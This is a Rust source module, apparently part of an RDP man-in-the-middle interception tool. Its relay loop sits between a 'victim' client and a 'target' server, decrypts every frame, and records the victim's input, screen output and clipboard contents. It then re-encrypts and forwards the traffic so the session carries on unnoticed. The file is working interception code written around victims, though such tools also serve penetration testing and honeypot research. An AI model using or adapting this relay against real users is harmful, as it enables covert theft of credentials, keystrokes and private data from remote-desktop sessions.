//! The relay loop: frames from either side are decrypted, surfaced as
//! events, recorded, re-encrypted and forwarded to the opposite side.

use bytes::BytesMut;
use spyglass_async::{Framed, FramedRead, FramedWrite, StreamWrapper};
use spyglass_connector::{encode_send_data_indication, encode_send_data_request, SecuritySession};
use spyglass_core::{decode, WriteBuf};
use spyglass_pdu::fast_path::FastPathHeader;
use spyglass_pdu::rdp::{SecurityHeaderFlags, ShareControlHeader, ShareControlPduType, ShareDataHeader};
use spyglass_pdu::tpdu::TpduCode;
use spyglass_pdu::tpkt::TpktHeader;
use spyglass_pdu::x224::{DisconnectRequest, X224};
use spyglass_pdu::{mcs, Action};

use crate::security::{protect_fast_path, protect_slow_path, unprotect_fast_path, unprotect_slow_path};
use crate::{
    close_reason_from_io, from_connector_error, session_error_from_io, ChannelMap, ClipboardEvent, CloseReason,
    RecordKind, Recorder, SessionResult,
};

/// An event observed on the decrypted stream, offered to the policy hook
/// before the payload is re-encrypted for the other side.
#[derive(Debug)]
pub enum SessionEvent<'a> {
    /// Victim-to-target traffic on the I/O channel.
    Input { payload: &'a [u8] },
    /// Target-to-victim traffic on the I/O channel.
    Output { payload: &'a [u8] },
    Clipboard {
        event: ClipboardEvent,
        payload: &'a [u8],
    },
    RawChannel {
        channel: String,
        payload: &'a [u8],
    },
    Close { reason: CloseReason },
}

/// Observer invoked for every relayed event.
///
/// Observation is best-effort and must not block; heavy consumers belong
/// behind the recorder's queued sinks instead.
pub trait EventObserver: Send {
    fn on_event(&mut self, event: &SessionEvent<'_>) {
        let _ = event;
    }
}

/// The default observer: sees everything, does nothing.
#[derive(Debug, Default)]
pub struct NoopObserver;

impl EventObserver for NoopObserver {}

#[derive(Debug, Copy, Clone, PartialEq, Eq)]
enum Direction {
    VictimToTarget,
    TargetToVictim,
}

impl Direction {
    fn io_record_kind(self) -> RecordKind {
        match self {
            Self::VictimToTarget => RecordKind::Input,
            Self::TargetToVictim => RecordKind::Output,
        }
    }
}

/// One side of the relay: its security state and channel routing.
pub(crate) struct SideState {
    security: SecuritySession,
    user_channel_id: u16,
    channels: ChannelMap,
    /// Channels the peer refused to join; traffic toward them is dropped.
    refused: Vec<u16>,
}

impl SideState {
    pub(crate) fn new(
        security: SecuritySession,
        user_channel_id: u16,
        channels: ChannelMap,
        refused: Vec<u16>,
    ) -> Self {
        Self {
            security,
            user_channel_id,
            channels,
            refused,
        }
    }
}

/// A fully-established intercepted session, ready to relay.
pub struct EstablishedSession {
    friendly_name: String,
    victim: SideState,
    target: SideState,
    victim_username: String,
}

impl EstablishedSession {
    pub(crate) fn new(friendly_name: String, victim: SideState, target: SideState, victim_username: String) -> Self {
        Self {
            friendly_name,
            victim,
            target,
            victim_username,
        }
    }

    pub fn friendly_name(&self) -> &str {
        &self.friendly_name
    }

    pub fn victim_username(&self) -> &str {
        &self.victim_username
    }

    pub fn victim_user_channel_id(&self) -> u16 {
        self.victim.user_channel_id
    }

    pub fn target_user_channel_id(&self) -> u16 {
        self.target.user_channel_id
    }

    pub fn channels(&self) -> &ChannelMap {
        &self.target.channels
    }

    /// Relays until either transport closes or a protocol error kills the
    /// session. The recorder receives every observed event and a final
    /// CLOSE record; on any failure the other side is shut down
    /// symmetrically.
    pub async fn run<V, T>(
        mut self,
        mut victim: Framed<V>,
        mut target: Framed<T>,
        mut recorder: Recorder,
        observer: &mut dyn EventObserver,
    ) -> SessionResult<()>
    where
        V: FramedRead + FramedWrite + StreamWrapper,
        T: FramedRead + FramedWrite + StreamWrapper,
    {
        enum Incoming {
            FromVictim(std::io::Result<(Action, BytesMut)>),
            FromTarget(std::io::Result<(Action, BytesMut)>),
        }

        let result = loop {
            let incoming = tokio::select! {
                frame = victim.read_pdu() => Incoming::FromVictim(frame),
                frame = target.read_pdu() => Incoming::FromTarget(frame),
            };

            let (direction, action, frame) = match incoming {
                Incoming::FromVictim(Ok((action, frame))) => (Direction::VictimToTarget, action, frame),
                Incoming::FromTarget(Ok((action, frame))) => (Direction::TargetToVictim, action, frame),
                Incoming::FromVictim(Err(error)) => {
                    break Err((close_reason_from_io(&error), session_error_from_io("victim read", error)));
                }
                Incoming::FromTarget(Err(error)) => {
                    break Err((close_reason_from_io(&error), session_error_from_io("target read", error)));
                }
            };

            let forwarded = match direction {
                Direction::VictimToTarget => {
                    self.forward(direction, action, &frame, &mut target, &mut recorder, observer)
                        .await
                }
                Direction::TargetToVictim => {
                    self.forward(direction, action, &frame, &mut victim, &mut recorder, observer)
                        .await
                }
            };

            match forwarded {
                Ok(Flow::Continue) => {}
                Ok(Flow::Closed) => break Ok(()),
                Err(error) => {
                    let reason = match error.kind() {
                        crate::SessionErrorKind::BadSignature => CloseReason::BadSignature,
                        crate::SessionErrorKind::MalformedPdu => CloseReason::MalformedPdu,
                        _ => CloseReason::TransportClosed,
                    };
                    break Err((reason, error));
                }
            }
        };

        match result {
            Ok(()) => {
                observer.on_event(&SessionEvent::Close {
                    reason: CloseReason::Normal,
                });
                recorder.close(CloseReason::Normal);

                // Best-effort symmetric shutdown of both transports.
                let _ = send_ultimatum(&mut victim).await;
                let _ = send_ultimatum(&mut target).await;

                Ok(())
            }
            Err((reason, error)) => {
                error!(name = %self.friendly_name, %error, "Session ended");

                observer.on_event(&SessionEvent::Close { reason });
                recorder.close(reason);

                let _ = send_ultimatum(&mut victim).await;
                let _ = send_ultimatum(&mut target).await;

                Err(error)
            }
        }
    }

    async fn forward<S>(
        &mut self,
        direction: Direction,
        action: Action,
        frame: &[u8],
        out: &mut Framed<S>,
        recorder: &mut Recorder,
        observer: &mut dyn EventObserver,
    ) -> SessionResult<Flow>
    where
        S: FramedRead + FramedWrite + StreamWrapper,
    {
        match action {
            Action::FastPath => self.forward_fast_path(direction, frame, out, recorder, observer).await,
            Action::X224 => self.forward_x224(direction, frame, out, recorder, observer).await,
        }
    }

    async fn forward_fast_path<S>(
        &mut self,
        direction: Direction,
        frame: &[u8],
        out: &mut Framed<S>,
        recorder: &mut Recorder,
        observer: &mut dyn EventObserver,
    ) -> SessionResult<Flow>
    where
        S: FramedRead + FramedWrite + StreamWrapper,
    {
        let mut cursor = spyglass_core::ReadCursor::new(frame);
        let header = spyglass_core::decode_cursor::<FastPathHeader>(&mut cursor)
            .map_err(|e| crate::SessionError::new("fastPath", crate::SessionErrorKind::MalformedPdu).with_source(e))?;

        let (inbound, outbound) = self.sides_mut(direction);

        let plaintext = unprotect_fast_path(&mut inbound.security, header.flags, cursor.remaining())?;

        let event = match direction {
            Direction::VictimToTarget => SessionEvent::Input { payload: &plaintext },
            Direction::TargetToVictim => SessionEvent::Output { payload: &plaintext },
        };
        observer.on_event(&event);

        recorder.record(direction.io_record_kind(), &plaintext);

        let (flags, body) = protect_fast_path(&mut outbound.security, &plaintext);

        let out_header = FastPathHeader::new(flags, header.middle_bits, body.len());
        let mut buf = WriteBuf::new();
        spyglass_core::encode_buf(&out_header, &mut buf)
            .map_err(|_| crate::session_general_err("encode fast-path header"))?;
        buf.write_slice(&body);

        out.write_all(buf.filled())
            .await
            .map_err(|e| session_error_from_io("relay write", e))?;

        Ok(Flow::Continue)
    }

    async fn forward_x224<S>(
        &mut self,
        direction: Direction,
        frame: &[u8],
        out: &mut Framed<S>,
        recorder: &mut Recorder,
        observer: &mut dyn EventObserver,
    ) -> SessionResult<Flow>
    where
        S: FramedRead + FramedWrite + StreamWrapper,
    {
        // An X.224 Disconnect Request winds the session down like an
        // ultimatum would.
        if frame.len() > TpktHeader::SIZE + 1 && TpduCode::from(frame[TpktHeader::SIZE + 1]) == TpduCode::DISCONNECT_REQUEST {
            let request = decode::<X224<DisconnectRequest>>(frame)
                .map_err(|e| crate::SessionError::new("x224", crate::SessionErrorKind::MalformedPdu).with_source(e))?
                .0;

            debug!(reason = request.reason, "X.224 disconnect request, closing");

            out.write_all(frame)
                .await
                .map_err(|e| session_error_from_io("relay write", e))?;

            return Ok(Flow::Closed);
        }

        let message = decode::<X224<mcs::McsMessage<'_>>>(frame)
            .map_err(|e| crate::SessionError::new("mcs", crate::SessionErrorKind::MalformedPdu).with_source(e))?
            .0;

        let (channel_id, user_data) = match message {
            mcs::McsMessage::SendDataRequest(ref msg) => (msg.channel_id, msg.user_data.as_ref()),
            mcs::McsMessage::SendDataIndication(ref msg) => (msg.channel_id, msg.user_data.as_ref()),
            mcs::McsMessage::DisconnectProviderUltimatum(msg) => {
                debug!(reason = %msg.reason, "Disconnect provider ultimatum, closing");

                // Forward the ultimatum verbatim, then wind the session down.
                out.write_all(frame)
                    .await
                    .map_err(|e| session_error_from_io("relay write", e))?;

                return Ok(Flow::Closed);
            }
            _ => {
                // Domain housekeeping PDUs cross unchanged.
                out.write_all(frame)
                    .await
                    .map_err(|e| session_error_from_io("relay write", e))?;

                return Ok(Flow::Continue);
            }
        };

        let (inbound, outbound) = self.sides_mut(direction);

        let (flags, plaintext) = unprotect_slow_path(&mut inbound.security, user_data)?;

        if flags.contains(SecurityHeaderFlags::LICENSE_PKT) {
            // Each side runs its own licensing; nothing to forward.
            debug!("Dropping stray licensing PDU");
            return Ok(Flow::Continue);
        }

        let Some(out_channel_id) = inbound.channels.translate_to(&outbound.channels, channel_id) else {
            debug!(channel_id, "Dropping PDU for an unmapped channel");
            return Ok(Flow::Continue);
        };

        if outbound.refused.contains(&out_channel_id) {
            debug!(channel = %outbound.channels.describe(out_channel_id), "Dropping PDU for a refused channel");
            return Ok(Flow::Continue);
        }

        if inbound.channels.is_io_channel(channel_id) {
            if let Some(kind) = slow_path_kind(&plaintext) {
                trace!(?direction, pdu_type = kind, "I/O channel PDU");
            }

            let event = match direction {
                Direction::VictimToTarget => SessionEvent::Input { payload: &plaintext },
                Direction::TargetToVictim => SessionEvent::Output { payload: &plaintext },
            };
            observer.on_event(&event);

            recorder.record(direction.io_record_kind(), &plaintext);
        } else if inbound.channels.is_clipboard(channel_id) {
            if let Some(event) = clipboard_payload(&plaintext).and_then(ClipboardEvent::classify) {
                observer.on_event(&SessionEvent::Clipboard {
                    event,
                    payload: &plaintext,
                });
            }

            recorder.record(RecordKind::Clipboard, &plaintext);
        } else {
            observer.on_event(&SessionEvent::RawChannel {
                channel: inbound.channels.describe(channel_id),
                payload: &plaintext,
            });
        }

        let protected = protect_slow_path(&mut outbound.security, &plaintext)?;

        let mut buf = WriteBuf::new();
        match direction {
            Direction::VictimToTarget => {
                encode_send_data_request(outbound.user_channel_id, out_channel_id, protected, &mut buf)
                    .map_err(from_connector_error)?;
            }
            Direction::TargetToVictim => {
                encode_send_data_indication(outbound.user_channel_id, out_channel_id, protected, &mut buf)
                    .map_err(from_connector_error)?;
            }
        }

        out.write_all(buf.filled())
            .await
            .map_err(|e| session_error_from_io("relay write", e))?;

        Ok(Flow::Continue)
    }

    fn sides_mut(&mut self, direction: Direction) -> (&mut SideState, &mut SideState) {
        match direction {
            Direction::VictimToTarget => (&mut self.victim, &mut self.target),
            Direction::TargetToVictim => (&mut self.target, &mut self.victim),
        }
    }
}

enum Flow {
    Continue,
    Closed,
}

/// Classifies an I/O channel payload by its share headers, for logging.
///
/// Relayed payloads stay opaque; this only peels the share control and
/// share data headers far enough to name the PDU.
fn slow_path_kind(plaintext: &[u8]) -> Option<u8> {
    let control = decode::<ShareControlHeader>(plaintext).ok()?;

    if control.pdu_type == ShareControlPduType::DATA {
        let data = decode::<ShareDataHeader>(&control.payload).ok()?;
        Some(data.pdu_type.as_u8())
    } else {
        Some(control.pdu_type.as_u8())
    }
}

/// Strips the virtual-channel chunk header in front of a clipboard PDU.
///
/// Chunked (multi-PDU) clipboard transfers keep their chunks opaque; only
/// single-chunk messages are classified.
fn clipboard_payload(plaintext: &[u8]) -> Option<&[u8]> {
    use spyglass_pdu::rdp::vc::{ChannelControlFlags, ChannelPduHeader};

    let mut cursor = spyglass_core::ReadCursor::new(plaintext);
    let header = spyglass_core::decode_cursor::<ChannelPduHeader>(&mut cursor).ok()?;

    let single = header.flags.contains(ChannelControlFlags::FLAG_FIRST)
        && header.flags.contains(ChannelControlFlags::FLAG_LAST);

    single.then(|| cursor.remaining())
}

async fn send_ultimatum<S>(framed: &mut Framed<S>) -> SessionResult<()>
where
    S: FramedRead + FramedWrite + StreamWrapper,
{
    let ultimatum = mcs::DisconnectProviderUltimatum::from_reason(mcs::DisconnectReason::ProviderInitiated);

    let mut buf = WriteBuf::new();
    spyglass_core::encode_buf(&X224(ultimatum), &mut buf)
        .map_err(|_| crate::session_general_err("encode ultimatum"))?;

    framed
        .write_all(buf.filled())
        .await
        .map_err(|e| session_error_from_io("ultimatum write", e))
}
